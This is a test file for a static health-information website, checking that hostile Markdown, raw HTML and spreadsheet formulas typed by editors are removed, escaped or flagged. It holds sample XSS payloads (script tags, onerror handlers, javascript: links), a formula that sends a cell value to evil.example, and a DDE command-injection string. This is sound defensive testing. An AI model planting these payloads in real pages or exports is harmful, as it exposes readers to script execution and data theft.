"""Nothing an editor types can attack a resident (issue 20): each test here failed before its fix."""

import csv
import io
import json
import re
import shutil
import subprocess
import sys

import pytest
from bs4 import BeautifulSoup

from conftest import ROOT, TODAY, run_pelican
from publish.validate import validate

HOSTILE = """\

点这里{: onerror="alert(1)" style="display:none" }

[官方通知](javascript:alert(2)) [引用链接][evil] [数据](data:text/html;base64,PHNjcmlwdD4=)

<script>alert(3)</script><img src=x onerror=alert(4)>

![别的网站的图](https://tracker.example.com/pixel.png)

[evil]: javascript:alert(5)
"""


@pytest.fixture
def project(tmp_path):
    """A copy of the content folder, to plant hostile Markdown in."""
    shutil.copytree(ROOT / "content", tmp_path / "content")
    return tmp_path


def build(project, **kwargs):
    return run_pelican(project / "out", extra=[f'PATH="{project / "content"}"', f'CACHE_PATH="{project / "cache"}"'], **kwargs)


def make_check(project):
    conf = project / "conf.py"
    conf.write_text(f"from pelicanconf import *\nPATH = {str(project / 'content')!r}\nSITES_TODAY = {TODAY!r}\n",
                    encoding="utf-8")
    return subprocess.run([sys.executable, "-m", "check", str(conf)], cwd=ROOT, capture_output=True, text=True,
                          env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""})


def assert_harmless(html):
    """No script, no event handler, no style, no link that runs code, no image from elsewhere."""
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["script", "iframe", "object", "embed", "style"])
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on") and name.lower() != "style", (element.name, name)
            if name in ("href", "src"):
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.I), value
                assert "tracker.example.com" not in value


def test_hostile_markdown_in_an_faq_page_is_removed_and_explained(project):
    page = project / "content/faq/09-cold-or-fever.md"
    page.write_text(page.read_text(encoding="utf-8") + HOSTILE, encoding="utf-8")
    built = build(project)
    assert built.returncode == 0, built.stderr
    body = str(built.page("faq/cold-or-fever").select_one(".faq-body"))
    assert_harmless(body)
    assert "官方通知" in body and "点这里" in body  # the words stay, the attack goes
    assert "&lt;script&gt;" in body  # HTML an editor types is shown as text, not run
    first = len(page.read_text(encoding="utf-8").splitlines()) - len(HOSTILE.splitlines()) + 1
    check = make_check(project)
    for offset, words in ((1, "{: …}"), (3, "javascript:"), (3, "data:"), (5, "HTML 标签"), (7, "本站的图片"),
                          (9, "javascript:")):
        expected = f"09-cold-or-fever.md:{first + offset}: "
        assert any(line.strip().startswith(expected) and words in line for line in check.stderr.splitlines()), \
            (expected, words, check.stderr)
    # The build says the same.
    assert f"09-cold-or-fever.md:{first + 3}: " in built.stdout + built.stderr


def test_hostile_markdown_in_the_school_letter_is_removed_and_explained(project):
    letter = project / "content/schools/letter.md"
    letter.write_text(letter.read_text(encoding="utf-8") + HOSTILE, encoding="utf-8")
    built = build(project)
    assert built.returncode == 0, built.stderr
    assert_harmless(str(built.page("schools/maying-primary").select_one(".school-letter")))
    check = make_check(project)
    assert check.returncode == 0 and "letter.md:" in check.stderr and "javascript:" in check.stderr


def test_raw_html_in_a_page_is_removed_and_explained(project):
    about = project / "content/pages/about.md"
    about.write_text(about.read_text(encoding="utf-8") + HOSTILE + '\n<a href="javascript:alert(6)">点</a>\n',
                     encoding="utf-8")
    built = build(project)
    assert built.returncode == 0, built.stderr
    article = str(built.page("about").select_one("article"))
    assert_harmless(article)
    logged = built.stdout + built.stderr
    assert "about.md:" in logged and "HTML 标签" in logged
    check = make_check(project)
    assert "about.md:" in check.stderr and "HTML 标签" in check.stderr


def test_the_publish_check_refuses_a_link_that_runs_code(tmp_path):
    (tmp_path / "index.html").write_text(
        '<!DOCTYPE html><html lang="zh-CN"><head><title>x</title></head><body>'
        '<a href="java&#x09;script:alert(1)">a</a><img src="data:image/svg+xml,x" alt=""><a href="tel:120">ok</a>'
        '</body></html>', encoding="utf-8")
    problems = validate(tmp_path)
    assert len(problems) == 2 and all("不安全的链接" in p for p in problems)


def test_open_data_csv_never_carries_a_live_formula(build_with, sample_text):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
    text = sample_text.replace("name: 通渭县疾病预防控制中心预防接种门诊", f"name: '{hostile}'", 1)
    text = text.replace("address: 平襄镇西大街（县疾控中心一楼）", "address: \"@SUM(1+1)*cmd|' /C calc'!A0\"", 1)
    built = build_with(text)
    assert built.returncode == 0, built.stderr
    rows = list(csv.DictReader(io.StringIO((built.output / "data/sites.csv").read_text(encoding="utf-8-sig"))))
    cdc = next(r for r in rows if r["id"] == "tw-cdc")
    assert cdc["name"] == "'" + hostile and cdc["address"].startswith("'@SUM")
    for row in rows:  # no cell of any row starts like a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    record = next(s for s in json.loads((built.output / "data/sites.json").read_text(encoding="utf-8"))["sites"]
                  if s["id"] == "tw-cdc")
    assert record["name"] == hostile  # the JSON is exact
